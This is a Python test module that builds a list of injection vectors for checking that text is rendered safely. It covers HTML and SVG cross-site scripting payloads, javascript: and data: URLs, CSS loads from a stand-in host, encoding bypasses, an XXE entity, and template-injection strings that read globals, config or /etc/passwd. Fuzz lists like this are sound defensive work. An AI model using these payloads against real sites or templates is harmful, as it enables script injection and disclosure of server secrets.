"""Texts that would do something if a page took them for markup, a style, an address or a template; of our own writing.

Each calls `fired(n)`, asks for a host that is not there, or leaves an element behind.
"""

from __future__ import annotations

from itertools import product

__all__ = ["VECTORS"]

FIRE = "alert('parvis-fired')"
AWAY = "http://fired.example/x"

_ELEMENTS = [
    f"<script>{FIRE}</script>",
    f"<SCRIPT>{FIRE}</SCRIPT>",
    f"<script\n>{FIRE}</script\t>",
    f"<script/x>{FIRE}</script>",
    f"<script src={AWAY}></script>",
    f"<script src=data:text/javascript,{FIRE}></script>",
    f"<<script>{FIRE}//<</script>",
    f"<scr<script>ipt>{FIRE}</scr</script>ipt>",
    f"<script type=module>{FIRE}</script>",
    f"<script>{FIRE}",
    f'<iframe srcdoc="<script>{FIRE}</script>"></iframe>',
    f"<iframe src=javascript:{FIRE}></iframe>",
    f"<iframe src={AWAY}>",
    f"<object data=javascript:{FIRE}>",
    f"<embed src={AWAY}>",
    f"<applet code={AWAY}>",
    f"<frameset onload={FIRE}>",
    f"<link rel=stylesheet href={AWAY}>",
    f"<link rel=import href={AWAY}>",
    f"<link rel=prefetch href={AWAY}>",
    f"<base href={AWAY}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{FIRE}'>",
    f"<meta http-equiv=refresh content='0;{AWAY}'>",
    f"<form action={AWAY}><input type=submit>",
    f"<form><button formaction=javascript:{FIRE}>go</button></form>",
    f"<isindex action={AWAY}>",
    f"<input autofocus onfocus={FIRE}>",
    f"<select autofocus onfocus={FIRE}>",
    f"<textarea autofocus onfocus={FIRE}>",
    f"<keygen autofocus onfocus={FIRE}>",
    f"<details open ontoggle={FIRE}>",
    f"<dialog open onclose={FIRE}>",
    f"<marquee onstart={FIRE}>",
    f"<body onload={FIRE}>",
    f"<body background={AWAY}>",
    f"<video><source onerror={FIRE}></video>",
    f"<video poster={AWAY}>",
    f"<audio src=x onerror={FIRE}>",
    f"<picture><img srcset='{AWAY} 2x' onerror={FIRE}>",
    f"<table background={AWAY}>",
    f"<template><img src=x onerror={FIRE}></template>",
    f'<noscript><p title="</noscript><img src=x onerror={FIRE}>">',
    f"<portal src={AWAY}>",
    f"<bgsound src={AWAY}>",
    f"<xml id=x><img src=x onerror={FIRE}></xml>",
    f"<plaintext><img src=x onerror={FIRE}>",
]
_HANDLERS = [
    "onerror",
    "ONERROR",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "onanimationstart",
    "onpointerenter",
    "onwheel",
    "oncopy",
]
_CARRIERS = [
    "<img src=x {0}={1}>",
    "<svg {0}={1}>",
    "<a href=x {0}={1}>go</a>",
    "<p tabindex=0 autofocus {0}={1}>go</p>",
]
_HANDLED = [carrier.format(handler, FIRE) for carrier, handler in product(_CARRIERS, _HANDLERS)]
_OUT_OF_ATTRIBUTES = [
    f"{quote}{close}<img src=x onerror={FIRE}>"
    for quote, close in product(['"', "'", "`", "", "&quot;", "&#34;"], [">", "/>", "-->", "]]>"])
] + [
    f"{quote} {handler}={FIRE} x={quote}"
    for quote, handler in product(['"', "'", "`"], ["onmouseover", "autofocus onfocus", "style=x onload"])
]
_SVG = [
    f"<svg><script>{FIRE}</script></svg>",
    f"<svg><script href={AWAY} /></svg>",
    f"<svg><a xlink:href=javascript:{FIRE}><text y=20>go</text></a></svg>",
    "<svg><use href=data:image/svg+xml,x#a></svg>",
    f"<svg><image href={AWAY}></svg>",
    f"<svg><animate onbegin={FIRE} attributeName=x dur=1s></svg>",
    f"<svg><set onbegin={FIRE} attributeName=x></svg>",
    f"<svg><foreignObject><body onload={FIRE}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={FIRE}></style></svg>",
    f"<math><mtext><img src=x onerror={FIRE}></mtext></math>",
    f"<math href=javascript:{FIRE}>go</math>",
    f"<svg><desc><img src=x onerror={FIRE}></desc></svg>",
    f"</title><script>{FIRE}</script>",
    f"</style><script>{FIRE}</script>",
    f"</textarea><script>{FIRE}</script>",
    f"</script><script>{FIRE}</script>",
]
_STYLES = [
    f"<style>*{{background:url({AWAY})}}</style>",
    f"<style>@import '{AWAY}';</style>",
    f"<p style=background:url({AWAY})>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    f"<style>@font-face{{font-family:x;src:url({AWAY})}}*{{font-family:x}}</style>",
    f"red;background:url({AWAY})",
    f'<div style="width:expression({FIRE})">',
    f"<xss style=animation-name:x onanimationstart={FIRE}>",
    f"}}*{{background:url({AWAY})}}",
]
_ADDRESSES = [
    f"javascript:{FIRE}",
    f"JaVaScRiPt:{FIRE}",
    f" javascript:{FIRE}",
    f"java\tscript:{FIRE}",
    f"java\nscript:{FIRE}",
    f"\x01javascript:{FIRE}",
    f"javascript&colon;{FIRE}",
    f"javascript&#58;{FIRE}",
    f"&#106;avascript:{FIRE}",
    f"javascript:/*http://*/{FIRE}",
    f"javascript://example.org/%0a{FIRE}",
    f"data:text/html,<script>{FIRE}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"vbscript:{FIRE}",
    f"view-source:{AWAY}",
    "file:///etc/passwd",
    f"blob:{AWAY}",
    f"filesystem:{AWAY}",
    f"//{AWAY[7:]}",
    f"\\\\{AWAY[7:]}",
    f"http:\\\\{AWAY[7:]}",
    f'http://a.example/"onmouseover={FIRE} x="',
    f"http://a.example/'><img src=x onerror={FIRE}>",
    "http://[",
    "http://",
    "https:javascript",
    f"http://a.example/\u2028{FIRE}",
    "feed:javascript:x",
    "jar:http://a.example!/x",
]
_ENCODINGS = [
    f"&lt;script&gt;{FIRE}&lt;/script&gt;",
    f"&#60;script&#62;{FIRE}&#60;/script&#62;",
    f"\u003cscript\u003e{FIRE}\u003c/script\u003e",
    f"%3Cscript%3E{FIRE}%3C/script%3E",
    f"+ADw-script+AD4-{FIRE}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{FIRE}\uff1c/script\uff1e",
    f"<\u0000script>{FIRE}</script>".replace("\u0000", "\ufffd"),
    f"<scr\u00adipt>{FIRE}</script>",
    f"<img/src=x/onerror={FIRE}>",
    f"<img\x0csrc=x\x0conerror={FIRE}>",
    "<img src=x onerror=&#97;lert(1)>",
    f"<a href='java&Tab;script:{FIRE}'>go</a>",
    f"<!--><img src=x onerror={FIRE}>-->",
    f"<![CDATA[><img src=x onerror={FIRE}>]]>",
    f"<?xml-stylesheet href=javascript:{FIRE}?>",
    f"<!DOCTYPE x [<!ENTITY y SYSTEM '{AWAY}'>]>",
    f"\u202e<script>{FIRE}</script>",
    f"<\u0130mg src=x onerror={FIRE}>",
]
_TEMPLATES = [
    "{{ 7*7 }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{{ self.__init__.__globals__ }}",
    "{{ config }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('x')()}}",
    "{# gone #}",
    "{{ ''.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}",
    "{% raw %}",
    "%(x)s {0} {x!r}",
    "\x02<b>\x03marked",
    "\x02\x03\x02",
    "[[x]]",
    "{{{x}}}",
    "*{x}",
    "@(7*7)",
    "~{x}",
]
VECTORS = tuple(
    dict.fromkeys([*_ELEMENTS, *_HANDLED, *_OUT_OF_ATTRIBUTES, *_SVG, *_STYLES, *_ADDRESSES, *_ENCODINGS, *_TEMPLATES])
)
